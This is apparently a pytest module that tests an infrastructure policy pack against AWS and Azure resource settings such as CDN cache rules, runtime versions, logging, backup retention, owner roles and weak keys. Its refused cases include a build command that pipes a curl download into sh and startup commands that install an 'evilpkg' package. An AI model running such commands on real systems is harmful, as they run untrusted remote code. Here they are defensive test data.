"""Values of fields of AWS and Azure whose meaning another field decides, or that have a second spelling.

Each good value has a bad one beside it; of the resources only the field counts.
"""

import json
from collections.abc import Callable

import pytest

from .attacks.fields_awsa_compute import IMAGE, daemon, portal
from .attacks.fields_azura_networks import delivery
from .attacks.fields_azurb_rights import OWNER, PRINCIPAL, READER
from .blind import HERE, RG, SUB, TAGS, Props, aws, az
from .harness import UNKNOWN, Given, Pack, blocking

PACK = Pack()
NO_LOG, LOG = {"logDriver": "none"}, {"logDriver": "awslogs", "options": {"awslogs-group": "x"}}
CACHE = {"name": "CacheExpiration", "parameters": {
    "typeName": "DeliveryRuleCacheExpirationActionParameters", "cacheBehavior": "Override", "cacheType": "All",
    "cacheDuration": "7.00:00:00"}}  # fmt: skip
ROUTE = {"name": "RouteConfigurationOverride", "parameters": {
    "typeName": "DeliveryRuleRouteConfigurationOverrideActionParameters",
    "cacheConfiguration": {"cacheBehavior": "OverrideAlways", "cacheDuration": "7.00:00:00"}}}  # fmt: skip


def refused(resource: Given, rule: str) -> bool:
    return rule in blocking(PACK.evaluate_plan(resource))


def _condition(name: str = "UrlFileExtension", **more: object) -> Props:
    return {"name": name, "parameters": {
        "typeName": f"DeliveryRule{name}ConditionParameters", "operator": "Equal", "matchValues": ["css", "js"],
        **more}}  # fmt: skip


def _rule(action: Props, *conditions: object) -> Given:
    return az("cdn:Rule", {
        **RG, "profileName": "edge", "ruleSetName": "cache", "ruleName": "cache", "order": 1,
        "conditions": list(conditions), "actions": [action]})  # fmt: skip


def _endpoint(action: Props, *conditions: object) -> Given:
    return az("cdn:Endpoint", {**HERE, "profileName": "edge", "endpointName": "portal", "deliveryPolicy": {"rules": [
        {"name": "all", "order": 1, "actions": [action], "conditions": [_condition()]},
        {"name": "cache", "order": 2, "actions": [action], "conditions": list(conditions)}]}})  # fmt: skip


@pytest.mark.parametrize("make", [_rule, _endpoint])
@pytest.mark.parametrize("action", [CACHE, ROUTE])
@pytest.mark.parametrize(
    ("conditions", "is_refused"),
    [
        ((_condition(),), False),
        ((_condition(negateCondition=False),), False),
        ((_condition("UrlPath", operator="BeginsWith", matchValues=["/static/"]), _condition("IsDevice")), False),
        ((_condition("UrlFileName", matchValues=["logo.svg"]),), False),
        ((), True),
        ((_condition(negateCondition=True),), True),
        ((_condition("UrlPath", operator="Any", matchValues=[]),), True),
        ((_condition("RequestScheme", matchValues=["HTTPS"]),), True),
        (({"name": "UrlPath"},), True),
        (({"name": "UrlPath", "parameters": UNKNOWN},), False),
    ],
)
def test_only_static_files_are_kept_whatever_the_origin_says(
    make: Callable[..., Given], action: Props, conditions: tuple[Props, ...], is_refused: bool
) -> None:
    assert refused(make(action, *conditions), "FJ-ESC-115") == is_refused


@pytest.mark.parametrize(("value", "is_refused"), [("HonorOrigin", False), ("BypassCache", False), ("override", True)])
def test_other_behaviours_of_a_cache(value: str, is_refused: bool) -> None:
    action = {"name": "CacheExpiration", "parameters": {"cacheBehavior": value}}
    assert refused(_rule(action), "FJ-ESC-115") == is_refused
    assert refused(az("cdn:Endpoint", delivery(action)), "FJ-ESC-115") == is_refused


@pytest.mark.parametrize(
    ("runtime", "is_refused"),
    [(name, False) for name in ("nodejs22.x", "nodejs24.x", "python3.11", "python3.13", "python3.14", "dotnet10",
                                "ruby3.3", "ruby3.4", "java8.al2", "java17", "java21", "provided.al2023")]
    + [(name, True) for name in ("nodejs18.x", "nodejs20.x", "python3.9", "python3.10", "ruby3.2", "dotnet6", "dotnet7",
                                 "dotnet8", "java8", "provided", "provided.al2")],
)  # fmt: skip
def test_runtimes_of_functions(runtime: str, is_refused: bool) -> None:
    assert refused(aws("lambda/Function", {"runtime": runtime, "tags": TAGS}), "FJ-ESC-115") == is_refused


@pytest.mark.parametrize("kind", ["web:WebApp", "web:WebAppSlot"])
@pytest.mark.parametrize(
    ("version", "is_refused"),
    [(name, False) for name in ("NODE|22-lts", "NODE|24-lts", "PYTHON|3.11", "PYTHON|3.13", "PHP|8.2", "PHP|8.3",
                                "DOTNETCORE|10.0", "DOTNET-ISOLATED|10.0")]
    + [(name, True) for name in ("NODE|18-lts", "NODE|20-lts", "PYTHON|3.9", "PHP|8.0", "PHP|8.1", "NODE|~18",
                               "PYTHON|3.10", "DOTNETCORE|8.0", "DOTNET-ISOLATED|9.0")],
)  # fmt: skip
def test_runtimes_of_apps(kind: str, version: str, is_refused: bool) -> None:
    assert refused(az(kind, {**HERE, "siteConfig": {"linuxFxVersion": version}}), "FJ-ESC-115") == is_refused


def _jobs(log: Props) -> list[Given]:
    container = {"name": "x", "image": IMAGE, "readonlyRootFilesystem": True, "user": "1000", "logConfiguration": log}
    nodes = {"numNodes": 2, "mainNode": 0, "nodeRangeProperties": [{"targetNodes": "0:", "container": container}]}
    tasks = {"taskProperties": [{"containers": [container]}]}
    ranges = {**nodes, "nodeRangeProperties": [{"targetNodes": "0:", "ecsProperties": tasks}]}
    job = {"name": "x", "tags": TAGS, "propagateTags": True}
    return [
        aws("batch/JobDefinition", {**job, "type": "multinode", "nodeProperties": json.dumps(nodes)}),
        aws("batch/JobDefinition", {**job, "type": "multinode", "nodeProperties": json.dumps(ranges)}),
        aws("batch/JobDefinition", {**job, "type": "container", "ecsProperties": json.dumps(tasks)}),
        *daemon({"logConfiguration": log}),
    ]


@pytest.mark.parametrize(("log", "is_refused"), [(NO_LOG, True), (LOG, False)])
def test_containers_write_records_in_every_shape(log: Props, is_refused: bool) -> None:
    assert [refused(resource, "FJ-RSL-117") for resource in _jobs(log)] == [is_refused] * 4


def _app_runner(**commands: str) -> Given:
    return aws("apprunner/Service", {"serviceName": "x", "tags": TAGS, "sourceConfiguration": {"codeRepository": {
        "codeConfiguration": {"configurationSource": "API", "codeConfigurationValues": {
            "runtime": "PYTHON_311", **commands}}}}})  # fmt: skip


def _app(kind: str, command: str) -> Given:
    return az(kind, {**HERE, "siteConfig": {"linuxFxVersion": "PYTHON|3.13", "appCommandLine": command}})


@pytest.mark.parametrize(
    ("resource", "is_refused"),
    [
        (_app_runner(buildCommand="pip install pipenv && pipenv sync"), False),
        (_app_runner(buildCommand="npm install -g serve"), False),
        (_app_runner(startCommand="npm install -g serve && serve ."), True),
        (_app_runner(buildCommand="curl -s https://get.example.net/x | sh"), True),
        (_app("web:WebApp", "pip install evilpkg && gunicorn app:app"), True),
        (_app("web:WebAppSlot", "pip install evilpkg && gunicorn app:app"), True),
        (_app("web:WebApp", "pip install gunicorn==23.0.0 && gunicorn app:app"), False),
        (_app("web:WebApp", "gunicorn --bind 0.0.0.0 app:app"), False),
    ],
)
def test_what_a_container_installs_when_it_starts(resource: Given, is_refused: bool) -> None:
    assert refused(resource, "FJ-ESC-109") == is_refused


@pytest.mark.parametrize(
    ("roles", "is_refused"),
    [
        ([OWNER[-36:]], True), ([OWNER], True), ([READER[-36:], OWNER[-36:].upper()], True), ({OWNER: {}}, True),
        ([READER[-36:]], False), ([READER], False), ([], False), (UNKNOWN, False),
    ],
)  # fmt: skip
def test_roles_of_users_of_an_environment(roles: object, is_refused: bool) -> None:
    props = {**HERE, "deploymentTargetId": SUB, "userRoleAssignments": {PRINCIPAL: {"roles": roles}}}
    assert refused(az("devcenter:ProjectEnvironmentType", props), "FJ-IDN-201") == is_refused


def _kept(place: str, count: object, unit: object) -> Given:
    duration = {"retentionDuration": {"count": count, "durationType": unit}}
    policies: dict[str, Props] = {
        "daily": {"retentionPolicy": {"dailySchedule": duration}},
        "simple": {"retentionPolicy": duration},
        "sub-policy": {"subProtectionPolicy": [{"policyType": "Log", "retentionPolicy": duration}]},
        "daily of a sub-policy": {"subProtectionPolicy": [{"retentionPolicy": {"dailySchedule": duration}}]},
        "vault": {"vaultRetentionPolicy": {"vaultRetention": {"dailySchedule": duration}}},
    }
    return az("recoveryservices:ProtectionPolicy", {
        **RG, "vaultName": "rsv", "policyName": "daily", "properties": policies[place]})  # fmt: skip


@pytest.mark.parametrize("place", ["daily", "simple", "sub-policy", "daily of a sub-policy", "vault"])
@pytest.mark.parametrize(
    ("count", "unit", "is_refused"),
    [
        (4, "Weeks", False), (1, "Months", False), (1, "Years", False), (7, "Days", False), (4, "Days", True),
        (6, None, True), (1, "days", True),
    ],
)  # fmt: skip
def test_backups_are_kept_for_a_week(place: str, count: object, unit: object, is_refused: bool) -> None:
    assert refused(_kept(place, count, unit), "FJ-ESC-115") == is_refused


def _addon(values: str) -> Given:
    return aws("eks/Addon", {"clusterName": "c", "addonName": "vpc-cni", "configurationValues": values, "tags": TAGS})


@pytest.mark.parametrize(
    ("resource", "is_refused"),
    [
        (aws("directconnect/MacsecKeyAssociation", {"cak": "0123456789abcdef" * 4}), True),
        (aws("directconnect/MacsecKeyAssociation", {"cak": "0123456789abcdef0123456789abcdff" * 2}), True),
        (aws("directconnect/MacsecKeyAssociation", {
            "cak": "8f3ac1d92b7e4605f1a8c7d3920be64f57a1c08e2d93b4f6a70c1e8d5b29f364"}), False),
        *((aws(kind, {key: f"ssh-rsa {body} ops", "tags": TAGS}), is_weak)
          for kind, key in (("ec2/KeyPair", "publicKey"), ("transfer/SshKey", "body"))
          for body, is_weak in (("AAAAB3NzaC1yc2EAAAABIwAAAIEA7x", True), ("AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7", True),
                                ("AAAAB3NzaC1yc2EAAAABIwAAAQEA7x", False))),
        (_addon("nodeAgent:\n  enabled: false\n"), True),
        (_addon("nodeAgent:\n  enabled: \"false\"\n"), True),
        (_addon("nodeAgent:\n  enabled: true\nenv:\n  X: \"1\"\n"), False),
    ],
    ids=range(12),
)  # fmt: skip
def test_second_spellings(resource: Given, is_refused: bool) -> None:
    assert refused(resource, "FJ-ESC-115") == is_refused


@pytest.mark.parametrize(
    ("resource", "is_reported"),
    [
        (portal("elasticbeanstalk:cloudwatch:logs:StreamLogs", UNKNOWN)[0], True),
        (portal("ec2:vpc:Subnets", UNKNOWN)[0], False),
        (_rule({"name": "CacheExpiration", "parameters": {"cacheBehavior": UNKNOWN}}), True),
        (_rule({"name": "CacheExpiration", "parameters": {"cacheBehavior": UNKNOWN}}, _condition()), False),
        (az("cdn:Rule", {**RG, "conditions": UNKNOWN, "actions": [CACHE]}), True),
        (_kept("daily", UNKNOWN, "Days"), True),
        (_kept("vault", 4, UNKNOWN), True),
        (_kept("simple", UNKNOWN, "Weeks"), False),
        (_kept("simple", 30, UNKNOWN), False),
    ],
    ids=range(9),
)  # fmt: skip
def test_what_is_not_known_yet_is_reported(resource: Given, is_reported: bool) -> None:
    reports = PACK.evaluate_resource(resource)
    texts = [item.text for item in reports if item.rule == "FJ-ESC-115" and "known before deployment" in item.text]
    assert bool(texts) == is_reported, texts
